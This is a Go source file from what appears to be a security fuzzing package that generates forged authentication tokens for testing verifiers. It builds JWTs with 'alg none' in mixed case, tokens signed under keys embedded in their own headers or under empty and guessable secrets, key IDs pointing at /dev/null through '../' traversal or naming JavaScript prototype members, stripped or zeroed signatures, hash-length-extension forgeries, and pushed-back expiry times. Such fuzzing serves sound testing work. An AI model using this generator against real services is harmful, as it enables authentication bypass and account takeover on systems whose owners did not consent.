package tokens

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"hash"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"unicode/utf8"

	"sealab/fuzz/attack/tokenfmt"
	"sealab/fuzz/review/jsondoc"
)

// timeInOpen matches a time of this century in seconds or milliseconds.
var timeInOpen = regexp.MustCompile(`^[1-3]\d{9}(\d{3})?$`)

// laterTimes adds tokens in which a readable time is later.
func laterTimes(add func(name, text string), token string) {
	segments := Segments(token)
	for i, s := range segments {
		if n, err := strconv.ParseUint(s.Text, 10, 64); err == nil && timeInOpen.MatchString(s.Text) {
			day := uint64(86400)
			if len(s.Text) > 10 {
				day *= 1000
			}
			add(fmt.Sprintf("a day more in segment %d", i), Replaced(segments, i, strconv.FormatUint(n+day, 10)))
			add(fmt.Sprintf("centuries more in segment %d", i), Replaced(segments, i, "9"+s.Text[1:]))
		}
	}
}

// Forgeries returns altered states that need no key. Each has another content than the token or
// lacks its tag.
func Forgeries(token string) []Variant {
	var all []Variant
	add := func(name, text string) {
		if text != token && text != "" {
			all = append(all, Variant{Name: name, Text: text})
		}
	}
	for _, v := range Views(token) {
		for _, c := range changedObjects(v.Object) {
			add(fmt.Sprintf("segment %d with %s", v.Segment, c.name), v.Write(token, c.text))
			forgedAlone(add, c.name, c.text)
			withoutTag(add, token, v, c.name, c.text)
		}
		for _, c := range emptiedTags(v.Object) {
			add(fmt.Sprintf("segment %d with %s", v.Segment, c.name), v.Write(token, c.text))
		}
		if _, ok := v.Object["alg"]; ok {
			algNone(add, token, v)
			ownKey(add, token, v)
			ownPairsInHeader(add, token, v)
		}
	}
	for _, v := range Views(token) {
		for _, c := range changedObjects(v.Object) {
			knownTags(func(tag, text string) { add(tag+" with "+c.name, text) }, Segments(v.Write(token, c.text)))
		}
	}
	laterTimes(add, token)
	otherHeads(add, token)
	otherNames(add, token)
	all = append(all, UnderKeys(token, foundKeys)...)
	all = append(all, UnderKeys(token, wipedKeys(token))...)
	extendForm(add, token)
	segments := Segments(token)
	knownTags(add, segments)
	blanks(add, segments)
	return all
}

// blanks adds tokens with segments that are empty or zero, or end in zeros.
func blanks(add func(name, text string), segments []Segment) {
	at := CodedSegments(segments)
	for _, i := range at {
		raw := segments[i].Raw()
		for _, n := range []int{16, 32} {
			if len(raw) > n {
				zero := slices.Concat(raw[:len(raw)-n], make([]byte, n))
				add(fmt.Sprintf("the last %d bytes of segment %d zero", n, i), Replaced(segments, i, segments[i].Write(zero)))
			}
		}
		if len(at) > 1 {
			add(fmt.Sprintf("segment %d empty", i), Replaced(segments, i, ""))
			add(fmt.Sprintf("segment %d zero", i), Replaced(segments, i, segments[i].Write(make([]byte, len(raw)))))
		}
	}
	if len(at) > 1 {
		var empty strings.Builder
		for _, s := range segments {
			if !s.coded {
				empty.WriteString(s.Text)
			}
		}
		add("every segment empty", empty.String())
	}
}

// forgedAlone adds a changed state without the rest of the token.
func forgedAlone(add func(name, text string), name string, changed json.RawMessage) {
	add("JSON with "+name, string(changed))
	add("base64 of JSON with "+name, base64.StdEncoding.EncodeToString(changed))
	add("base64url of JSON with "+name, base64.RawURLEncoding.EncodeToString(changed))
}

// withoutTag adds a changed state with an empty or zero last segment, or without the segments after
// it.
func withoutTag(add func(name, text string), token string, v View, name string, changed json.RawMessage) {
	if v.Segment < 0 {
		return
	}
	segments := Segments(v.Write(token, changed))
	last := len(segments) - 1
	if last <= v.Segment {
		return
	}
	if segments[last].coded {
		add("empty tag with "+name, Replaced(segments, last, ""))
		add("zero tag with "+name, Replaced(segments, last, segments[last].Write(make([]byte, len(segments[last].Raw())))))
	}
	add("no tag with "+name, Replaced(segments[:v.Segment+1], -1, ""))
}

// otherHeads adds tokens with another key ID or version: it changes each character before the first
// separator. An older version may have no key and no tag.
func otherHeads(add func(name, text string), token string) {
	n := strings.IndexAny(token, separators)
	if n < 1 || n > 4 {
		return
	}
	longest := slices.MaxFunc(segmentPattern.FindAllString(token, -1), func(a, b string) int { return len(a) - len(b) })
	for i := range n {
		for _, d := range []int{-2, -1, 1, 2, 3} {
			if c := int(token[i]) + d; c < 0x80 && isCoded(byte(c)) {
				name, text := fmt.Sprintf("character %d of the head %+d", i, d), token[:i]+string(rune(c))+token[i+1:]
				if add(name, text); d == 1 && i == n-1 {
					knownTags(func(tag, text string) { add(name+" and "+tag, text) }, Segments(text))
				}
				if end := strings.LastIndexAny(text, separators); end > n && (d == 1 || d == -1) {
					add(name+" and no tag", text[:end])
					add(name+" and the longest part alone", text[:n+1]+longest)
				}
			}
		}
	}
}

// segmentPattern matches the text between two separators.
var segmentPattern = regexp.MustCompile(`[^` + regexp.QuoteMeta(separators) + `]+`)

// maxName is the length of the longest part that is taken for a key ID, in characters.
const maxName = 40

// maxParts is the number of parts above which a token is taken for a document without a key ID.
const maxParts = 12

// nameParts returns the places of parts that may be key IDs, which are neither the longest nor the
// last one.
func nameParts(token string) [][]int {
	parts := segmentPattern.FindAllStringIndex(token, -1)
	if len(parts) < 3 || len(parts) > maxParts {
		return nil
	}
	longest := slices.MaxFunc(parts[:len(parts)-1], func(a, b []int) int { return a[1] - a[0] - b[1] + b[0] })
	return slices.DeleteFunc(parts[:len(parts)-1], func(at []int) bool { return at[0] == longest[0] || at[1]-at[0] > maxName })
}

// otherNames changes parts that may be key IDs. It adds tags that need no secret.
func otherNames(add func(name, text string), token string) {
	for i, at := range nameParts(token) {
		for _, other := range []struct{ how, name string }{{"made up", "sealab"}, {"changed", OtherCharacter(token[at[0]:at[1]])}} {
			text := token[:at[0]] + other.name + token[at[1]:]
			knownTags(func(tag, text string) { add(fmt.Sprintf("part %d %s and %s", i, other.how, tag), text) }, Segments(text))
		}
	}
}

// UnderKeys returns tokens whose key IDs are replaced by those of a map, signed under the keys that a
// careless reader finds for them.
func UnderKeys(token string, found map[string][]string) []Variant {
	var all []Variant
	add := func(name, id, key, text string) {
		all = append(all, Variant{Name: fmt.Sprintf("%s %q and the key %+.40q of %d bytes", name, id, key, len(key)), Text: signedUnder([]byte(key), text)})
	}
	for _, id := range jsondoc.SortedKeys(found) {
		for _, key := range found[id] {
			for _, v := range Views(token) {
				for _, name := range keyNames(v) {
					add(name, id, key, v.Write(token, jsondoc.Object(jsondoc.With(v.Object, name, jsondoc.Quote(id)))))
				}
			}
			for i, at := range nameParts(token) {
				add(fmt.Sprintf("part %d", i), id, key, token[:at[0]]+id+token[at[1]:])
			}
		}
	}
	return slices.DeleteFunc(all, func(v Variant) bool { return v.Text == "" || v.Text == token })
}

// knownTags adds the state with tags that need no secret, over its text and over its bytes.
func knownTags(add func(name, text string), segments []Segment) {
	last := len(segments) - 1
	if last < 1 || !segments[last].coded {
		return
	}
	messages := map[string][]byte{"text": []byte(strings.TrimRight(Replaced(segments, last, ""), separators))}
	for _, s := range segments[:last] {
		if s.coded && len(s.Text) >= len(messages["segment"]) {
			messages["bytes"], messages["segment"] = s.Raw(), []byte(s.Text) // of the longest segment
		}
	}
	n := len(segments[last].Raw())
	for _, of := range jsondoc.SortedKeys(messages) {
		sums := knownSums(messages[of])
		for _, name := range jsondoc.SortedKeys(sums) {
			tag := sums[name]
			add(fmt.Sprintf("%s of the %s", name, of), Replaced(segments, last, segments[last].Write(tag[:min(n, len(tag))])))
		}
	}
}

// knownSums returns tags of a message that need no secret.
func knownSums(message []byte) map[string][]byte {
	sum := sha256.Sum256(message)
	all := map[string][]byte{"SHA-256": sum[:]}
	for _, key := range []string{"", "secret"} {
		all[fmt.Sprintf("HMAC-SHA256 under %q", key)] = hmacSHA256([]byte(key), message)
	}
	return all
}

// algNone adds JWTs whose header declares that there is no signature.
func algNone(add func(name, text string), token string, header View) {
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		object := jsondoc.Object(jsondoc.With(header.Object, "alg", jsondoc.Quote(alg)))
		text := header.Write(token, object)
		segments := Segments(text)
		add(fmt.Sprintf("alg %q", alg), text)
		add(fmt.Sprintf("alg %q and an empty signature", alg), Replaced(segments, len(segments)-1, ""))
	}
}

// ownKey adds JWTs that are signed under a key in their own header.
func ownKey(add func(name, text string), token string, header View) {
	key := sha256.Sum256([]byte("sealab"))
	text := jsondoc.Quote(base64.RawURLEncoding.EncodeToString(key[:]))
	hs256 := jsondoc.With(header.Object, "alg", jsondoc.Quote("HS256"))
	signed := func(name string, members map[string]json.RawMessage) {
		add(name, signedUnder(key[:], header.Write(token, jsondoc.Object(members))))
	}
	signed("a key in the header", jsondoc.With(hs256, "jwk", jsondoc.Object(map[string]json.RawMessage{"kty": jsondoc.Quote("oct"), "k": text})))
	for _, name := range jsondoc.SortedKeys(header.Object) {
		if raw := header.Object[name]; name != "alg" && name != "typ" && len(raw) > 0 && raw[0] == '"' {
			signed(fmt.Sprintf("a key in the header %q", name), jsondoc.With(hs256, name, text))
		}
	}
}

// signedUnder returns a token whose last segment is replaced by its HMAC-SHA256 under key, or "".
func signedUnder(key []byte, token string) string {
	return signedBy(func(text []byte) []byte { return hmacSHA256(key, text) }, token)
}

func hmacSHA256(key, message []byte) []byte { return hmacOf(sha256.New, key, message) }

// hmacOf returns the HMAC of a message with a hash function.
func hmacOf(sum func() hash.Hash, key, message []byte) []byte {
	mac := hmac.New(sum, key)
	mac.Write(message)
	return mac.Sum(nil)
}

// AtRoot leads from a folder to the root. Further steps lead to the root as well.
const AtRoot = "../../../../../../../../../../"

// foundKeys maps key IDs to the keys that careless readers find for them. The IDs are a missing
// key, members that all JavaScript objects inherit, and an empty file.
var foundKeys = map[string][]string{
	"sealab":            {"", "undefined", "null", "None"},
	"__proto__":         {"", "[object Object]"},
	"constructor":       {"function Object() { [native code] }"},
	"toString":          {"function toString() { [native code] }"},
	AtRoot + "dev/null": {""},
	"/dev/null":         {""},
}

// keyNames returns the names of members of a JWT header that may be the ID of a key.
func keyNames(header View) []string {
	if header.Object["alg"] == nil {
		return nil
	}
	names := []string{"kid"}
	for _, name := range jsondoc.SortedKeys(header.Object) {
		if raw := header.Object[name]; name != "alg" && name != "typ" && name != "kid" && len(raw) > 0 && raw[0] == '"' {
			names = append(names, name)
		}
	}
	return names
}

// lastNumber matches the last number of a text.
var lastNumber = regexp.MustCompile(`[0-9]{1,9}([^0-9]*)$`)

// wipedKeys returns the empty key for the IDs with the numbers beside those of a token: a server may keep the IDs
// of older and later keys without their keys.
func wipedKeys(token string) map[string][]string {
	found := map[string][]string{}
	add := func(id string) {
		at := lastNumber.FindStringSubmatchIndex(id)
		if at == nil {
			return
		}
		digits := id[at[0]:at[2]]
		n, _ := strconv.Atoi(digits) // at most nine digits
		for _, other := range []int{n - 1, n - 2, n + 1} {
			if other >= 0 {
				found[fmt.Sprintf("%s%0*d%s", id[:at[0]], len(digits), other, id[at[2]:])] = []string{""}
			}
		}
	}
	for _, v := range Views(token) {
		for _, name := range keyNames(v) {
			if id, ok := jsondoc.Text(v.Object[name]); ok {
				add(id)
			}
		}
	}
	for _, at := range nameParts(token) {
		add(token[at[0]:at[1]])
	}
	return found
}

// maxKey is the length of the longest secret prefix that extendForm tries, in bytes.
const maxKey = 64

// extendForm appends the last member of a form such as a=1&b=2 again and extends its hash. The
// extension succeeds if the tag is the hash of key || form.
func extendForm(add func(name, text string), token string) {
	segments := Segments(token)
	at := CodedSegments(segments)
	if len(at) < 2 {
		return
	}
	body, tag := at[len(at)-2], at[len(at)-1]
	form, digest := segments[body].Raw(), segments[tag].Raw()
	end := strings.LastIndexByte(string(form), '&')
	if end < 0 || !strings.Contains(string(form[end:]), "=") || !utf8.Valid(form) {
		return
	}
	for _, chain := range tokenfmt.Chains {
		for n := 1; n <= maxKey && len(digest) == chain.Size; n++ {
			next, err := chain.Extend(digest, n+len(form), form[end:])
			if err != nil {
				break
			}
			longer := slices.Concat(form, chain.Padding(n+len(form)), form[end:])
			text := Replaced(Segments(Replaced(segments, tag, segments[tag].Write(next))), body, segments[body].Write(longer))
			add(fmt.Sprintf("%s continued behind a key of %d bytes", chain.Name, n), text)
		}
	}
}

// A changedObject is the JSON of a state with one value changed.
type changedObject struct {
	name string // of the change
	text json.RawMessage
}

// changedObjects returns copies of a state with one value changed in each, by the names of the values.
// It leaves large numbers alone: they may be times, and a changed time may be refused for another reason.
func changedObjects(state map[string]json.RawMessage) []changedObject {
	var all []changedObject
	for _, name := range jsondoc.SortedKeys(state) {
		if changed := changedValue(state[name], 3); changed != nil {
			all = append(all, changedObject{fmt.Sprintf("another %q", name), jsondoc.Object(jsondoc.With(state, name, changed))})
		}
	}
	return all
}

// changedValue returns another value of the same type, or nil.
func changedValue(raw json.RawMessage, depth int) json.RawMessage {
	var text string
	var number float64
	switch {
	case json.Unmarshal(raw, &text) == nil:
		return jsondoc.Quote(text + "x")
	case json.Unmarshal(raw, &number) == nil && number < 1e8:
		return json.RawMessage(fmt.Sprint(number + 1))
	case string(raw) == "true":
		return json.RawMessage("false")
	case string(raw) == "false":
		return json.RawMessage("true")
	}
	m := jsondoc.Members(raw)
	for _, name := range jsondoc.SortedKeys(m) {
		if depth == 0 {
			break
		}
		if changed := changedValue(m[name], depth-1); changed != nil {
			return jsondoc.Object(jsondoc.With(m, name, changed))
		}
	}
	return nil
}

// tagMember matches names of members that hold a signature or another tag.
var tagMember = regexp.MustCompile(`(?i:^|[_-])(?i:h?mac|sig|signature|tag|proof|seal)(?i:s?)$|[a-z](?:H?[Mm]ac|HMAC|MAC|Sig|Signature|Tag|Proof|Seal)s?$`)

// longPart matches a text in JSON that is as long as a tag.
var longPart = regexp.MustCompile(fmt.Sprintf(`"[\w+/=-]{%d,}"`, MinCoded))

// emptiedTags returns copies of a state in which all members that hold tags are empty, null or absent,
// as in a JWS without signatures (RFC 7515, section 7.2).
func emptiedTags(state map[string]json.RawMessage) []changedObject {
	var all []changedObject
	for _, empty := range []string{"[]", `""`, "null", "{}", "[{}]", ""} {
		if emptied := withTags(jsondoc.Object(state), json.RawMessage(empty), 3); string(emptied) != string(jsondoc.Object(state)) {
			all = append(all, changedObject{fmt.Sprintf("%q for every tag", empty), emptied})
		}
	}
	return all
}

// withTags returns JSON in which every member that holds a tag has another value, or is absent if the
// value is empty.
func withTags(raw, value json.RawMessage, depth int) json.RawMessage {
	m := jsondoc.Members(raw)
	if m == nil || depth == 0 {
		return raw
	}
	for _, name := range jsondoc.SortedKeys(m) {
		switch {
		case !tagMember.MatchString(name) || !longPart.Match(m[name]):
			m[name] = withTags(m[name], value, depth-1)
		case len(value) == 0:
			delete(m, name)
		default:
			m[name] = value
		}
	}
	return jsondoc.Object(m)
}
